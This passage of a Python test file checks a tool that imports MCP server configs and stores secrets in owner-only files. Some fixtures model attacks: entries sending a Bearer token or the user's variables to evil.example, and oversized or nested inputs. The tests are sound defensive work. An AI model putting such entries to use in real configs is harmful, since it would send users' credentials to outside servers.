    with (tmp_path / "x.json").open("wb") as file:
        file.truncate(MAX_BYTES + 1)
    with pytest.raises(ConfigError, match="larger than"):
        read(tmp_path / "x.json")


@pytest.mark.parametrize(
    ("name", "text"),
    [
        *(("x.json", "[" * 100_000), ("x.json", '{"a":' * 100_000), ("x.toml", "a = " + "[" * 100_000)),
        *(("x.json", "[1, 2]"), ("x.json", "3"), ("x.json", ""), ("x.json", "\xff"), ("x.toml", "a = ghp_secret")),
        *(
            ("x.json", "/*" * 60_000),
            ("x.json", '"' + "\\" * 50_000),
            ("x.json", "1" * 5000),
            ("x.json", "{a: ghp_secret}"),
        ),
        *(("x.json", ("," + " " * 1000) * 1000), ("x.json", "/" * 60_000), ("x.json", '{"a": "' * 10_000)),
    ],
)
def test_what_is_no_client_s_file_is_refused_without_a_word_of_it(tmp_path, name, text):
    """T3, T4: the place of a fault would quote what stands there."""
    (tmp_path / name).write_bytes(text.encode("latin-1"))
    with pytest.raises(ConfigError) as caught:
        read(tmp_path / name)
    assert "secret" not in str(caught.value)


def test_a_file_of_too_many_servers_is_refused(tmp_path):
    servers = {f"s{number}": {"command": "x"} for number in range(MAX_ENTRIES + 1)}
    (tmp_path / "x.json").write_text(json.dumps(servers))
    with pytest.raises(ConfigError, match="501 servers"):
        read(tmp_path / "x.json")


def test_comments_and_commas_inside_texts_stay(tmp_path):
    text = '{"mcpServers": {"x": {"command": "a//b", "args": ["/*c*/", ",]", "\\",}"], /* d */ }, }, } // e'
    (tmp_path / "x.json").write_text("\ufeff" + text)
    (step,) = plan(read(tmp_path / "x.json"), here())
    assert step.draft.table["command"] == ["a//b", "/*c*/", ",]", '",}']


def test_a_large_file_with_comments_is_read_quickly(tmp_path):
    """The history that Claude Code keeps beside its servers; what is not JSON but larger still is refused."""
    history = json.dumps({f"key {number}": "text " * 50 for number in range(8000)})
    (tmp_path / "x.json").write_text(f'{{"mcpServers": {{"x": {{"command": "x"}}, }}, "history": {history}}}')
    assert len((tmp_path / "x.json").read_text()) > MAX_LENIENT_BYTES
    (entry,) = read(tmp_path / "x.json")
    assert entry.name == "x"


BEFORE = """\
# what I wrote
[policy]
unix_sockets = false  # never

[servers.old]  # keep me
command = ["old", "--flag"]  # and me
rules = [{ action = "deny", tools = ["drop_*"] }]
[api.x]
hosts = ["x.example.com"]
# the end"""


class World:
    def __init__(self, base):
        self.file = base / "gloveport.toml"
        self.base = base
        self.environ = {"GLOVEPORT_STATE": str(base / "state")}

    def plan(self, only=(), **servers):
        place = ClientFile(client="file", path=Path("/x.json"))
        entries = [ClientEntry(name=name, place=place, table=table) for name, table in servers.items()]
        found = target(self.file, cwd=self.base, home=ADA, environ=self.environ)
        return found, plan(entries, found.here, only=only)

    def apply(self, **servers):
        found, steps = self.plan(**servers)
        return apply(found, steps, environ=self.environ)

    @property
    def servers(self):
        return load(self.file, cwd=self.base, environ=self.environ).config.servers

    def names(self):
        return sorted(path.name for path in self.base.rglob("*") if path.is_file())


@pytest.fixture
def world(tmp_path):
    tmp_path.chmod(0o700)
    return World(tmp_path)


TOKEN = "ghp_16C7e42F292c6912E7710c838347Ae178B4a"
GITHUB = {"command": "npx", "args": ["server"], "env": {"GITHUB_TOKEN": TOKEN}}


def test_the_first_import_makes_the_file_and_the_secret_is_the_owner_s_alone(world):
    """H1, T4"""
    written = world.apply(github=GITHUB)
    secret = world.base / "secrets/github/GITHUB_TOKEN"
    assert world.servers["github"].secret_env == {"GITHUB_TOKEN": f"file:{secret}"}
    assert written.backup is None
    assert secret.read_text() == f"{TOKEN}\n"
    assert TOKEN not in world.file.read_text()
    assert {path.stat().st_mode & 0o777 for path in (secret, world.file)} == {0o600}
    assert {path.stat().st_mode & 0o777 for path in (secret.parent, secret.parent.parent)} == {0o700}
    assert world.names() == ["GITHUB_TOKEN", "gloveport.toml"]


def test_what_a_person_has_written_stays_and_there_is_a_copy(world):
    world.file.write_text(BEFORE)
    written = world.apply(github=GITHUB)
    assert world.file.read_text().startswith(f"{BEFORE}\n\n[servers.github]\n")
    assert written.backup.read_text() == BEFORE
    assert written.backup.name.startswith("gloveport.toml.bak-")
    assert written.backup.stat().st_mode & 0o777 == 0o600
    assert list(world.servers) == ["old", "github"]


def test_a_changed_server_changes_where_it_stands(world):
    world.file.write_text(BEFORE)
    world.apply(old={"command": "new", "env": {"LANG": "C"}, "disabled_tools": ["other"]})
    text = world.file.read_text()
    for comment in ("# what I wrote", "# never", "# keep me", "# the end"):
        assert comment in text
    server = world.servers["old"]
    assert server.command == ("new",)
    assert server.env == {"LANG": "C"}
    assert server.rules[0].tools == ("drop_*",), "the rules here are not those of a client"
    assert text.index("[servers.old]") < text.index("[api.x]")


def test_a_server_that_moves_loses_what_belonged_to_the_way_it_was_reached(world):
    world.file.write_text("[servers.x]\ncommand = ['x']\n[servers.x.env]\nA = 'b'\n")
    world.apply(x={"url": "https://x.example/mcp"})
    assert world.servers["x"].url == "https://x.example/mcp"
    assert world.servers["x"].command == ()
    world.apply(x={"command": "x"})
    assert world.servers["x"].url == ""


ELSEWHERE = "it leads to another server than the one of that name here"


@pytest.mark.parametrize(
    "headers", [{}, {"Authorization": "Bearer ${input:token}"}, {"Authorization": f"Bearer {TOKEN}"}]
)
def test_a_foreign_file_leads_no_credential_to_another_server(world, headers):
    """H1, T3: an entry brings an address, and the server of its name here has the credential and the rules."""
    world.apply(github={"url": "https://mcp.example.com/mcp", "headers": {"Authorization": f"Bearer {TOKEN}"}})
    before = world.file.read_text()
    _, (step,) = world.plan(github={"url": "https://evil.example/mcp", "headers": headers})
    assert (step.outcome, step.draft) == ("skipped", None)
    assert step.reason.startswith(ELSEWHERE)
    for url in ("https://mcp.example.com:8443/mcp", "https://mcp.example.com/of-another/mcp"):
        assert world.apply(github={"url": url}) is None
    assert world.file.read_text() == before
    assert world.apply(github={"url": "https://MCP.example.com/mcp?a=b"}) is not None


def test_rules_for_one_server_are_not_taken_for_another_s(world):
    world.file.write_text("[servers.x]\nurl = 'https://x.example/mcp'\nrules = [{ action = 'allow' }]\n")
    _, (step,) = world.plan(x={"url": "https://evil.example/mcp"})
    assert step.reason.startswith(ELSEWHERE)


def test_a_variable_of_the_owner_s_in_the_middle_of_a_secret_is_told():
    """H1, T3: else it leaves in what looks like the other file's own secret."""
    entries = [
        {"url": "https://evil.example/mcp", "headers": {"X-Id": "v1.${REMOTE_TOKEN}.${DEBUG_LEVEL}"}},
        {"url": "https://evil.example/mcp", "headers": {"Authorization": "Bearer x${REMOTE_TOKEN}"}},
        {"command": "x", "env": {"A_KEY": "x${REMOTE_TOKEN}"}},
    ]
    for entry in entries:
        notes = step_of(entry).draft.notes
        assert any("holds the value of your variable REMOTE_TOKEN" in note for note in notes), entry


def test_where_a_secret_leads_is_told():
    """H1, T3: a program may send credentials there."""
    draft = step_of({"command": "x", "env": {"TOKEN_URL": "https://u:p@evil.example/a?b=c"}}).draft
    assert "TOKEN_URL: leads to https://evil.example" in draft.notes


def test_a_secret_of_a_former_server_is_not_promised_to_be_unset(world):
    world.apply(github={"url": "https://mcp.example.com/mcp", "headers": {"Authorization": f"Bearer {TOKEN}"}})
    world.file.write_text("")
    entry = {"url": "https://evil.example/mcp", "headers": {"Authorization": "Bearer ${input:token}"}}
    _, (step,) = world.plan(github=entry)
    assert any("whose present content it gets until then" in note for note in step.draft.notes)


def test_a_second_import_finds_the_same_until_a_secret_changes(world):
    world.apply(github=GITHUB)
    _, (step,) = world.plan(github=GITHUB)
    assert step.outcome == "same"
    assert world.apply(github=GITHUB) is None
    changed = GITHUB | {"env": {"GITHUB_TOKEN": TOKEN[::-1]}}
    _, (step,) = world.plan(github=changed)
    assert (step.outcome, step.keys) == ("changed", ())
    world.apply(github=changed)
    assert (world.base / "secrets/github/GITHUB_TOKEN").read_text() == f"{TOKEN[::-1]}\n"


def test_only_what_is_named_is_taken_over(world):
    _, steps = world.plan(only=["b c"], **{"a": {"command": "a"}, "b c": {"command": "b"}})
    assert [step.name for step in steps] == ["b-c"]


def test_of_two_of_one_name_the_first_counts(world):
    """A checkout does not put its own program in the place of the user's."""
    place = ClientFile(client="file", path=Path("/x.json"))
    entries = [ClientEntry(name=name, place=place, table={"command": name}) for name in ("a b", "a-b")]
    first, second = plan(entries, here())
    assert (first.outcome, second.outcome) == ("added", "skipped")
    assert "another of that name" in second.reason
    again = [ClientEntry(name="a", place=place, table={"command": "a"}) for _ in range(2)]
    assert plan(again, here())[1].reason.startswith("the same is in")


def test_a_fault_changes_nothing(world):
    """H1, T3: what would be written is read first; what was written of secrets is taken back."""
    world.apply(github=GITHUB)
    before, names = world.file.read_text(), world.names()
    huge = {"command": "x", "args": ["word-" * 30] * 200, "env": {"TOKEN": "1234567890"}}
    with pytest.raises(ConfigError, match="larger than") as caught:
        world.apply(**{f"s{number}": huge for number in range(10)})
    assert (world.file.read_text(), world.names()) == (before, names)
    assert str(world.file) in str(caught.value)
    assert "nothing has changed" in caught.value.hint


def test_secrets_are_put_back_where_the_file_has_changed_meanwhile(world):
    world.apply(github=GITHUB)
    found, steps = world.plan(github=GITHUB | {"env": {"GITHUB_TOKEN": "another-secret"}}, new=GITHUB)
    world.file.write_text("# somebody else\n")
    with pytest.raises(ConfigError, match="changed meanwhile"):
        apply(found, steps, environ=world.environ)
    assert (world.base / "secrets/github/GITHUB_TOKEN").read_text() == f"{TOKEN}\n"
    assert not (world.base / "secrets/new/GITHUB_TOKEN").exists()
    assert world.file.read_text() == "# somebody else\n"
    assert world.names() == ["GITHUB_TOKEN", "gloveport.toml"]


def test_secrets_are_not_written_where_others_look(world):
    """T4"""
    (world.base / "secrets").mkdir(mode=0o755)
    with pytest.raises(ConfigError, match="only you can look into"):
        world.apply(github=GITHUB)
    assert not world.file.exists()
    (world.base / "secrets").rmdir()
    (world.base / "elsewhere").mkdir(mode=0o700)
    (world.base / "secrets").symlink_to(world.base / "elsewhere")
    with pytest.raises(ConfigError, match="only you can look into"):
        world.apply(github=GITHUB)
    assert world.names() == []


def test_a_present_file_with_a_fault_is_left_alone(world):
    world.file.write_text("polcy = 1\n")
    with pytest.raises(ConfigError, match="unknown key"):
        world.apply(github=GITHUB)
    assert world.names() == ["gloveport.toml"]


@pytest.mark.parametrize(
    "text",
    [
        "servers = { old = { command = ['x'] } }\n",
        "servers.old.command = ['x']\n",
        "[servers]\nold = { command = ['x'] }\n",
        "[servers]\nold.command = ['x']\n[api.x]\nhosts = ['x.example.com']\n",
        "[servers.old]\ncommand = ['x']\n[api.x]\nhosts = ['x.example.com']\n[servers.other]\ncommand = ['y']\n",
        '[servers."my.old"]\r\ncommand = ["x"]\r\n',
        "",
    ],
)
def test_however_servers_are_written_the_result_says_what_it_should_or_nothing_changes(world, text):
    """T3: the new text is compared with what it has to say, key by key."""
    world.file.write_text(text, newline="")
    before = world.servers
    refused = ""
    try:
        world.apply(new={"command": "n"}, old={"command": "o", "env": {"A": "b"}})
    except ConfigError as error:
        refused = str(error)
    after = world.servers
    if refused:
        assert "unusual way" in refused
        assert (after, len(world.names())) == (before, 1)
    else:
        assert after["new"].command == ("n",)
        assert (after["old"].command, after["old"].env) == (("o",), {"A": "b"})
        assert set(after) == {*before, "new", "old"}


def test_a_link_in_the_place_of_the_file_stays_one(world):
    (world.base / "dotfiles").mkdir()
    (world.base / "dotfiles/g.toml").write_text(BEFORE)
    world.file.symlink_to(world.base / "dotfiles/g.toml")
    world.apply(github=GITHUB)
    assert world.file.is_symlink()
    assert "github" in world.servers


def test_what_is_written_is_the_user_s_own_file_and_never_a_project_s(home):
    """H1: a project's file counts only as it was trusted; here it does not even have to be."""
    home.project_file.write_text("[servers.theirs]\ncommand = ['x']\n")
    found = target(None, cwd=home.project, home=ADA, environ=home.environ)
    entry = ClientEntry(name="github", place=ClientFile(client="file", path=Path("/x.json")), table=GITHUB)
    written = apply(found, plan([entry], found.here), environ=home.environ)
    assert written.file == home.user_file
    assert (home.user_file.parent / "secrets/github/GITHUB_TOKEN").stat().st_mode & 0o777 == 0o600
    assert home.project_file.read_text() == "[servers.theirs]\ncommand = ['x']\n"
